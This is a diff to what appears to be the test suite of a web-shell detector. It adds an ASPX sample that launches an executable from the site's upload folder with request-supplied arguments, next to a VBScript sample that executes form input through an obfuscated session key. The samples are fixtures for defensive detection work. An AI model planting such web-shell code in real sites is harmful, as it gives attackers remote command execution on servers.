@@ -1988,6 +1988,13 @@ var r = cmd.ExecuteReader(); } %>
 "#,
         "EXRAY_Request_Process_Flow",
     );
+    // and so is a tool in a folder of the site given the caller's arguments
+    has(
+        r#"<%@ Page Language="C#" %>
+<% System.Diagnostics.Process.Start(@"C:\inetpub\wwwroot\up\p.exe", Request["a"]); %>
+"#,
+        "EXRAY_Request_Process_Flow",
+    );
     // a session value stored under a key computed two calls deep, then executed
     has(
         "<%\nFunction k(a)\nDim s, i\nFor i = LBound(a) To UBound(a)\ns = s & Chr(a(i))\nNext\nk = s\nEnd Function\nc = Request.Form(\"p\")\nSession(k(Array(112,97))) = c\nExecute(Session(k(Array(112,97))))\n%>\n",
